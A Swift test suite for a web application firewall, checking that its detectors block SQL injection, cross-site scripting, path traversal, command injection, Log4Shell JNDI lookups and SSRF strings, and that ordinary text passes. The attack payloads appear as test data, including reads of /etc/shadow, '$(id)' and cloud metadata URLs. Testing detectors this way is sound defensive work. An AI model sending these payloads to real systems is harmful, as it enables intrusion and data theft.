import GatehouseCore
import Testing

@testable import GatehouseWAF

func query(_ name: String, _ value: String, route: String = "") -> PolicyRequest {
    PolicyRequest(method: "GET", path: "/search", query: name + "=" + PercentDecodingTestHelpers.encode(value), routeName: route)
}

func form(_ body: String, route: String = "") -> PolicyRequest {
    PolicyRequest(
        method: "POST", path: "/form", headers: HeaderList([("Content-Type", "application/x-www-form-urlencoded")]),
        body: Array(body.utf8), routeName: route)
}

enum PercentDecodingTestHelpers {
    static func encode(_ s: String) -> String {
        var out = ""
        for b in s.utf8 {
            if (b >= 0x30 && b <= 0x39) || (b | 0x20 >= 0x61 && b | 0x20 <= 0x7A) || b == 0x2D || b == 0x2E || b == 0x5F {
                out.unicodeScalars.append(Unicode.Scalar(b))
            } else {
                out += "%" + (b < 16 ? "0" : "") + String(b, radix: 16, uppercase: true)
            }
        }
        return out
    }
}

let engine = WAFEngine()

struct AttackCase: CustomTestStringConvertible, Sendable {
    let value: String
    let rule: String
    var testDescription: String { "\(rule): \(value)" }
}

@Suite("Each detector blocks its attack shapes")
struct AttackShapes {
    static let cases: [AttackCase] = [
        .init(value: "' or 'a'='a", rule: "942100"),
        .init(value: "10 AND 1=1", rule: "942100"),
        .init(value: "x') OR ('b'='b", rule: "942100"),
        .init(value: "guest'-- ", rule: "942110"),
        .init(value: "3 UNION ALL SELECT NULL,NULL,NULL", rule: "942120"),
        .init(value: "1 UnIoN/**/SeLeCt 1,2", rule: "942120"),
        .init(value: "9; DROP TABLE invoices--", rule: "942130"),
        .init(value: "1 and sleep(7)", rule: "942140"),
        .init(value: "1;waitfor delay '0:0:9'", rule: "942140"),
        .init(value: "4 and updatexml(1,concat(0x7e,database()),1)", rule: "942150"),
        .init(value: "5' ORDER BY 9-- x", rule: "942160"),
        .init(value: "<script src=//a.example/b.js></script>", rule: "941100"),
        .init(value: "<svg onload=print()>", rule: "941110"),
        .init(value: "\" onfocus=\"x()\" autofocus=\"", rule: "941110"),
        .init(value: "jav&#x09;ascript:alert(2)", rule: "941120"),
        .init(value: "<iframe src=//evil.example></iframe>", rule: "941140"),
        .init(value: "\";confirm(9)//", rule: "941150"),
        .init(value: "{{ self.__init__.__globals__ }}", rule: "941160"),
        .init(value: "../../../../var/www/.htpasswd", rule: "930100"),
        .init(value: "/etc/shadow", rule: "930120"),
        .init(value: "php://filter/resource=config", rule: "930140"),
        .init(value: "1.2.3.4 && cat /etc/issue", rule: "932100"),
        .init(value: "$(id)", rule: "932120"),
        .init(value: "() { :;}; echo vulnerable", rule: "932130"),
        .init(value: "${${upper:j}ndi:ldap://h.example/x}", rule: "932150"),
        .init(value: "http://169.254.169.254/latest/meta-data/", rule: "934100"),
        .init(value: "gopher://10.1.1.1:25/_HELO", rule: "934110"),
        .init(value: "http://0x7f.1/", rule: "934120"),
        // Regressions: each of these once passed.
        .init(value: "7 or true", rule: "942100"),
        .init(value: "'+OR+1=1--", rule: "942100"),
        .init(value: "CHAR(0x61)+CHAR(0x64)+CHAR(0x6d)+CHAR(0x69)", rule: "942150"),
        .init(value: "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 2 END))", rule: "942100"),
        .init(value: "<BODY onload!#$%&()*~+-_.,:;?@[/|]^`=alert(1)>", rule: "941110"),
        .init(value: "<IMG SRC= onmouseover=\"alert(1)\">", rule: "941110"),
        .init(value: "';a=prompt,a()//", rule: "941150"),
        .init(value: ";sleep${IFS}5", rule: "932100"),
        .init(value: "localhost; ls", rule: "932100"),
        .init(value: "() { _; } >_[$($())] { id; }", rule: "932130"),
        .init(value: "http://trusted.example#@10.0.0.5/", rule: "934120"),
        .init(value: "http://localtest.me/", rule: "934120"),
        .init(value: "http://①②⑦.⓪.⓪.①/", rule: "934120"),
        .init(value: "..\u{2216}..\u{2216}windows\u{2216}win.ini", rule: "930100"),
        .init(value: "';--", rule: "942110"),
        .init(value: "|id;", rule: "932100"),
        .init(value: ";${PATH:0:1}bin${PATH:0:1}id", rule: "932100"),
    ]

    @Test(arguments: cases)
    func blocks(_ c: AttackCase) {
        let report = engine.inspect(query("v", c.value))
        #expect(report.blocked, "\(c.value) scored \(report.total): \(report.ruleIDs)")
        #expect(report.ruleIDs.contains(c.rule), "\(c.value) fired \(report.ruleIDs), expected \(c.rule)")
    }
}

@Suite("Benign text passes")
struct BenignText {
    static let cases: [String] = [
        "O'Reilly", "select a plan", "union street", "Please select the best option from the menu",
        "I went home; cat was hungry", "We close at 5; see you tomorrow", "Don't drop the table, it's an antique!",
        "rock 'n' roll or jazz?", "x < y and y > z", "javascript: the definitive guide", "Echo & the Bunnymen",
        "Let's meet at Union Square; sleep well", "It's a 50/50 chance", "The file ../README.md explains it",
        "price=5&qty=2 is the format", "Hello {{name}}", "Look up O'Hara's score; it's 7-2",
        // Regressions: each of these was once blocked.
        "Meeting moved to 3pm; ping me if you can't make it", "Having fun at the beach; wish you were here",
        "npm install --save lodash", "Use `ls -la` to list files", "cat /proc/cpuinfo is useful for debugging",
        "The ORDER BY clause sorts rows", "if x == 'a' or y == 'b': print(x)", "Sleep(1000) in the loop slows it down.",
        "echo \"hello\" | grep h", "Use `git log --oneline | head -5` to see recent commits.", "../images/logo.png",
        "The <script> tag is used to embed JavaScript.", "<iframe> elements can embed other pages.",
        "http://localhost:8080 is where the dev server runs.", "```python\nfor i in range(3):\n    print(i)\n```",
        "Great product; we'd select it again. We'd union them; it's fine.",
        "import Button from '../../components/Button'",
    ]

    @Test(arguments: cases)
    func passes(_ value: String) {
        let report = engine.inspect(query("q", value))
        #expect(!report.blocked, "\(value) was blocked by \(report.findings.map { "\($0.ruleID) \($0.excerpt)" })")
    }
}

@Suite("Fields and decoding")
struct FieldsAndDecoding {
    @Test func doubleEncodedTraversalIsDecoded() {
        let r = engine.inspect(PolicyRequest(method: "GET", path: "/dl", query: "f=%252e%252e%252f%252e%252e%252fetc%252fpasswd"))
        #expect(r.ruleIDs.contains("930100"))
        #expect(r.findings.first { $0.ruleID == "930100" }?.field == "query.f")
    }

    @Test func overlongUTF8IsFoldedAndFlagged() {
        let r = engine.inspect(PolicyRequest(method: "GET", path: "/dl", query: "f=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc/passwd"))
        #expect(r.ruleIDs.contains("920150"))
        #expect(r.ruleIDs.contains("930100"))
    }

    @Test func htmlEntitiesAreDecodedForXSS() {
        let r = engine.inspect(query("q", "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>"))
        #expect(r.ruleIDs.contains("941120"))
    }

    @Test func jsonFieldsAreNamedByPath() {
        let body = #"{"user":{"name":"x","tags":["ok","1' or '1'='1"]}}"#
        let r = engine.inspect(
            PolicyRequest(method: "POST", path: "/api", headers: HeaderList([("Content-Type", "application/json")]), body: Array(body.utf8))
        )
        #expect(r.findings.first?.field == "body.user.tags.1")
        #expect(r.blocked)
    }

    @Test func jsonUnicodeEscapesAreDecoded() {
        let body = #"{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#
        let r = engine.inspect(
            PolicyRequest(method: "POST", path: "/api", headers: HeaderList([("Content-Type", "application/json")]), body: Array(body.utf8))
        )
        #expect(r.ruleIDs.contains("941100"))
    }

    @Test func multipartFieldsAndFilenamesAreInspected() {
        let b = "XyZ"
        let body =
            "--\(b)\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhello; whoami\r\n"
            + "--\(b)\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../etc/cron.d/x\"\r\nContent-Type: application/octet-stream\r\n\r\n\u{0}\u{1}bin\r\n--\(b)--\r\n"
        let r = engine.inspect(
            PolicyRequest(
                method: "POST", path: "/up", headers: HeaderList([("Content-Type", "multipart/form-data; boundary=\(b)")]),
                body: Array(body.utf8)))
        #expect(r.findings.contains { $0.field == "body.note" && $0.detector == .rce })
        #expect(r.findings.contains { $0.field == "body.f:filename" && $0.ruleID == "930100" })
        #expect(!r.findings.contains { $0.ruleID == "920140" }, "binary file content is not a NUL-byte finding")
    }

    @Test func headersAndCookiesAreInspected() {
        var req = PolicyRequest(method: "GET", path: "/")
        req.headers.add("X-Forwarded-For", "1' or 1=1-- ")
        req.headers.add("Cookie", "sid=abc; pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E")
        let r = engine.inspect(req)
        #expect(r.findings.contains { $0.field == "header.x-forwarded-for" && $0.detector == .sqli })
        #expect(r.findings.contains { $0.field == "cookie.pref" && $0.ruleID == "941100" })
    }

    @Test func pathTraversalInThePath() {
        let r = engine.inspect(PolicyRequest(method: "GET", path: "/static/..%2f..%2f..%2fetc/passwd"))
        #expect(r.findings.contains { $0.field == "path" && $0.ruleID == "930100" })
    }

    @Test func decodersHandleEdgeCases() {
        var f = DecodeFlags()
        #expect(Decoding.percentDecode(Array("%2541".utf8), plusAsSpace: false, flags: &f) == Array("A".utf8))
        #expect(f.contains(.multipleEncoding))
        #expect(Decoding.percentDecodeOnce(Array("%u003c%zz".utf8), plusAsSpace: false) == Array("<%zz".utf8))
        #expect(Decoding.htmlEntityDecode(Array("&lt;&#x3C;&#60&colon;&bogus;".utf8)) == Array("<<<:&bogus;".utf8))
        let (p, escapes) = Decoding.normalisePath(Array("/a/./b/../../../c".utf8))
        #expect(p == Array("/c".utf8))
        #expect(escapes == 1)
    }
}

@Suite("Protocol anomalies and scanners")
struct ProtocolAnomalies {
    @Test func contentLengthWithTransferEncoding() {
        let req = PolicyRequest(
            method: "POST", path: "/", headers: HeaderList([("Content-Length", "5"), ("Transfer-Encoding", "chunked")]),
            body: Array("0\r\n\r\n".utf8))
        #expect(engine.inspect(req).ruleIDs.contains("920100"))
    }

    @Test func invalidChunkSize() {
        let req = PolicyRequest(
            method: "POST", path: "/", headers: HeaderList([("Transfer-Encoding", "chunked")]), body: Array("g1\r\nabc\r\n0\r\n\r\n".utf8))
        #expect(engine.inspect(req).ruleIDs.contains("920120"))
        let ok = PolicyRequest(
            method: "POST", path: "/", headers: HeaderList([("Transfer-Encoding", "chunked")]), body: Array("3\r\nabc\r\n0\r\n\r\n".utf8))
        #expect(!engine.inspect(ok).ruleIDs.contains("920120"))
    }

    @Test func tooManyAndTooLongArguments() {
        let many = (0..<40).map { "a\($0)=1" }.joined(separator: "&")
        let small = WAFEngine(configuration: WAFConfiguration(limits: WAFLimits(maxArgs: 20, maxArgLength: 10)))
        let r = small.inspect(PolicyRequest(method: "GET", path: "/", query: many + "&long=" + String(repeating: "x", count: 11)))
        #expect(r.ruleIDs.contains("920170"))
        #expect(r.ruleIDs.contains("920180"))
    }

    @Test func nullByte() {
        #expect(engine.inspect(PolicyRequest(method: "GET", path: "/", query: "f=a.php%00.png")).ruleIDs.contains("920140"))
    }

    @Test func scannerUserAgent() {
        let r = engine.inspect(PolicyRequest(method: "GET", path: "/", headers: HeaderList([("User-Agent", "sqlmap/1.8#stable")])))
        #expect(r.ruleIDs == ["913100"])
        #expect(r.blocked)
    }
}
